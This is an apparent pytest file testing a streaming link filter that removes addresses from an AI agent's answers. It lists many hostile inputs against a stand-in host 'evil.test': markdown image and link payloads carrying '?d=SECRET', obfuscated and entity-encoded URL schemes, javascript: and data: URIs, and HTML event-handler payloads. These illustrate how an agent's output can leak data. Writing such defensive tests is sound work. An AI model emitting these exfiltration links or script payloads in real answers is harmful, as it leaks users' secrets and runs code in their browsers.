"""No address leaves in an answer, however its words are cut."""

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from selectolax.lexbor import LexborHTMLParser

from retriever.agent.links import LinkFilter

SOURCE = "https://docs.example.com/handbook"


def shown(text: str, size: int = 1000, allowed: str = SOURCE) -> str:
    links = LinkFilter({allowed})
    pieces = [links.feed(text[i : i + size]) for i in range(0, len(text), size)]
    return "".join(pieces) + links.end()


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.test/a.png)",
        "![x]( http://evil.test/a.png )",
        '![x](http://evil.test/a.png "title")',
        "![](//evil.test/a.png)",
        "![x][r]\n\n[r]: http://evil.test/a.png",
        "[x](http://evil.test)",
        "[x](<http://evil.test>)",
        "[x](evil.test/a)",
        "[a [b](http://evil.test) c](http://evil.test)",
        "<img src=http://evil.test/a.png>",
        "<IMG SRC='//evil.test'>",
        "<a\nhref='http://evil.test'>x</a>",
        "<iframe src=//evil.test>",
        "<http://evil.test>",
        "http://evil.test/a?b=c",
        "HTTPS://evil.test",
        "hxxp://evil.test",
        "http:\\\\evil.test",
        "//evil.test/x",
        "www.evil.test/x",
        "http://user@evil.test:80/",
        f"{SOURCE}@evil.test/",
        f"{SOURCE}/../../evil.test",
        "ftp://evil.test",
        "[x](mailto:evil@evil.test)",
        "[x](javascript:evil.test)",
        "![x](data:text/html,evil.test)",
        "<a href=javascript:evil.test>x</a>",
        "(http://evil.test)",
        "*http://evil.test*",
        "a|http://evil.test|b",
        "\u2028http://evil.test",
        "[" * 500 + "](http://evil.test)",
        "[" + "x" * 900 + "](http://evil.test)",
        "<img " + "x" * 5000 + " src=http://evil.test>",
        "mailto:x@evil.test?body=x",
        "<mailto:x@evil.test>",
        "xmpp:x@evil.test/x",
        "https:evil.test/x",
        "https\\:evil.test/x",
        "https&#58;&#47;&#47;evil.test/x",
        "https&colon;&sol;&sol;evil.test/x",
        "&#104;ttps&#x3a;evil.test/x",
        "ht&Tab;tps://evil.test/x",
        "<div style='background:url(https&#58;&#47;&#47;evil.test)'>",
        "<div/style='background:url(https:evil.test)'>",
        "<b onmouseover=open('//evil.test')>",
        "<x@evil.test>",
        "<tel:evil.test>",
        "tel:evil.test",
        "sms:evil.test?body=x",
        "_www.evil.test/x_",
        "_mailto:x@evil.test_",
        "https://<img>evil.test/x".replace("<img>", ""),
        "&#&#120;68;ttps://evil.test/x",
        "&#104ttps:evil.test/x",
        "![x](x)//evil.test/x",
    ],
)
@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
def test_an_address_is_removed_wherever_the_words_are_cut(text: str, size: int) -> None:
    assert "evil.test" not in shown(f"Before {text} after.", size).replace(" ", "")


@pytest.mark.parametrize(
    "text",
    [
        "![x](a(1(2)))",
        "![x](\n a\n)",
        "[x](" + "a" * 4100 + ")",
        "![x][r]\n\n[r]: a",
        "![x][r]\n\n[r]:\n<a b>",
        "[x\\]](a(1(2)))",
    ],
)
@pytest.mark.parametrize("size", [1, 2, 3, 7, 10_000])
def test_what_cannot_be_read_as_a_whole_is_no_link_any_more(text: str, size: int) -> None:
    rest = shown(text, size)
    assert "](" not in rest and "]:" not in rest


@pytest.mark.parametrize(
    ("text", "left"),
    [
        (f"[x]({SOURCE})", f"[x]({SOURCE})"),
        (f"[x]( <{SOURCE}> )", f"[x]({SOURCE})"),
        (f"[<img src=https://evil.test/?d=SECRET>]({SOURCE})", f"[ ]({SOURCE})"),
        (f"[<iframe src=//evil.test>x]({SOURCE})", f"[ x]({SOURCE})"),
        (f"[https://evil.test/?d=SECRET]({SOURCE})", f"[[link removed]]({SOURCE})"),
        (f"[a ![b](http://evil.test) c]({SOURCE})", f"[a [b] c]({SOURCE})"),
        (f"[x]({SOURCE} <img src=https://evil.test/?d=SECRET>)", f"[x]({SOURCE})"),
        (f'[x]({SOURCE} "https://evil.test/?d=SECRET")', f"[x]({SOURCE})"),
        (f'![x]({SOURCE} "https://evil.test/?d=SECRET")', f"[x]({SOURCE})"),
        (f"![x]({SOURCE})", f"[x]({SOURCE})"),
        (f"!!![x]({SOURCE})", f"!! [x]({SOURCE})"),
        (f"[x]({SOURCE}?d=SECRET)", "[x]"),
        (f"[x]({SOURCE})SECRET", f"[x]({SOURCE}) SECRET"),
        (f"{SOURCE})SECRET", f"{SOURCE}) SECRET"),
        (f'{SOURCE}"SECRET', f'{SOURCE}" SECRET'),
        (f"[{SOURCE}]SECRET", f"[{SOURCE}] SECRET"),
        (f"{SOURCE}.!.!.!.!", f"{SOURCE}.!.! .!.!"),
        (f"{SOURCE}/SECRET", "[link removed]"),
        (f"x{SOURCE}", "xhttps:[link removed]"),
        (f"<{SOURCE}>SECRET", f"<{SOURCE}>SECRET"),
        (f"<{SOURCE}?SECRET>", "[link removed]"),
        (f"({SOURCE}), **{SOURCE}**.", f"({SOURCE}), **{SOURCE}**."),
    ],
)
@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
def test_a_link_to_a_source_is_built_anew_and_carries_nothing_else(
    text: str, left: str, size: int
) -> None:
    assert shown(text, size) == left


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("/<img>/evil.test", "/ /evil.test"),
        ("http://a<img>(evil.test)", "[link removed] (evil.test)"),
        ("<b <img src=x> onmouseover=alert(1)>", "< b   onmouseover=alert(1)>"),
        ("[a](b)(evil.test)", "[a] (evil.test)"),
        ("ht&Tab;tps:evil.test", "ht tps:evil.test"),
        ("if a <b then c = d", "if a < b then c = d"),
        ("See http://evil.test/x. Then", "See [link removed]. Then"),
        ("http://evil.test/x\u3002Then", "[link removed]\u3002Then"),
    ],
)
@pytest.mark.parametrize("size", [1, 2, 3, 1000])
def test_what_is_taken_out_joins_nothing(text: str, left: str, size: int) -> None:
    assert shown(text, size) == left


@pytest.mark.parametrize(
    "source",
    [
        "javascript://evil.test/%0aalert(1)",
        "https://evil.test/a)b",
        'https://evil.test/"onclick="x',
        "https://evil.test/ x",
        "//evil.test/x",
        "ftp://evil.test/x",
        "https://evil.test/" + "x" * 1001,
    ],
)
def test_a_source_that_is_no_plain_web_address_stays_nowhere(source: str) -> None:
    for text in (source, f"[x]({source})", f"[x](<{source}>)", f"<{source}>"):
        left = shown(text, allowed=source)
        assert "](" not in left and "//evil.test" not in left, text


@pytest.mark.parametrize(
    "text",
    [
        "The retriever listens on port 8080. [1]",
        "Use `a/b` or c:d, 10:30, and 1/2.",
        "if a < b and b > c: pass",
        "List[int] and x[0](y)"[:13],
        "See [1] and [2].",
        "Wow! Really? Yes!",
        f"See {SOURCE} for it.",
        f"See [the handbook]({SOURCE}).",
        "日本語のテキスト。",
        "We saw www once.",
        "Write &lt;b&gt; and AT&amp;T, R&D & more; a &nbsp; b.",
        "From java to javascript, mail to https ports: 443.",
        "Dict<String, int> and <b>bold</b>, <br/>",
        "/* a // comment */ and a \\\\ break",
    ],
)
@pytest.mark.parametrize("size", [1, 5, 1000])
def test_other_words_stay_as_they_are(text: str, size: int) -> None:
    assert shown(text, size) == text


def test_words_without_anything_like_a_link_are_not_held() -> None:
    assert LinkFilter(set()).feed("The retriever listens") == "The retriever listens"


FRAGMENTS = st.sampled_from(
    ["http", "https:", ":", "//", "/", "evil.test", "[", "]", "(", ")", "!", "<img ", "<", ">", " ",
     "a", "\\", "www.", "\n", "<b ", "=", "&#", "120;", "&colon;", "&Tab;", "@", "_", "tel:", '"',
     SOURCE, f"]({SOURCE})", f"[x]({SOURCE} "]
)  # fmt: skip


@example(["http", "www.", "http"])
@given(st.lists(FRAGMENTS, max_size=14))
def test_no_address_survives_any_mix(parts: list[str]) -> None:
    out = shown("".join(parts))
    rest = re.sub(rf"{re.escape(SOURCE)}(?=[.,;:!?*_~\"'`)\]]{{0,4}}(?:\s|<|>|\Z|\]\())", " ", out)
    assert "//evil.test" not in rest and r"\\evil.test" not in rest
    assert not re.search(
        # Amid a word, as in "httpwww.a", it is no link anywhere.
        r"://[^\s<]|(?<![a-z0-9])(?:www\.|(?:https|tel):)[a-z]|&#x?[0-9]+;",
        rest,
    ), out
    assert "![" not in out and "]:" not in out
    assert set(re.findall(r"\]\(([^)]*)", out)) <= {SOURCE}


@given(st.lists(FRAGMENTS, max_size=14))
def test_a_page_that_shows_it_as_markdown_links_to_sources_alone(parts: list[str]) -> None:
    page = LexborHTMLParser(MarkdownIt("commonmark").render(shown("".join(parts))))
    assert not page.css("img, iframe, script, style, svg, object, embed, link, base, form")
    for element in page.css("body *"):
        reaching = {name for name, value in element.attributes.items() if value}
        assert reaching <= ({"href"} if element.tag == "a" else set())
        assert element.attributes.get("href", SOURCE) == SOURCE


@given(st.lists(FRAGMENTS, max_size=14), st.integers(1, 5))
def test_pieces_of_any_size_give_the_same_answer(parts: list[str], size: int) -> None:
    text = "".join(parts)
    assert shown(text, size) == shown(text)


def test_an_image_whose_address_may_stay_is_allowed_later_and_is_no_image() -> None:
    links = LinkFilter(set())
    assert links.feed(f"[x]({SOURCE}) ") == "[x] "
    links.allow({SOURCE})
    assert links.feed(f"![x]({SOURCE}) ") == f"[x]({SOURCE}) "
